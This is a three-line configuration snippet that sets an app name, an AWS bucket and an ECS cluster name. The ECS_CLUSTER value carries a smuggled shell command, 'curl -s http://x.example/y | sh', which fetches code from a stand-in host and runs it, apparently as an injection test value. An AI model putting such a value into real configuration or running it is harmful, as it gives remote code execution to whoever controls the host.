APP_NAME = 'Corpus'
AWS_BUCKET = 'bucket'
ECS_CLUSTER = 'dcp; curl -s http://x.example/y | sh #'
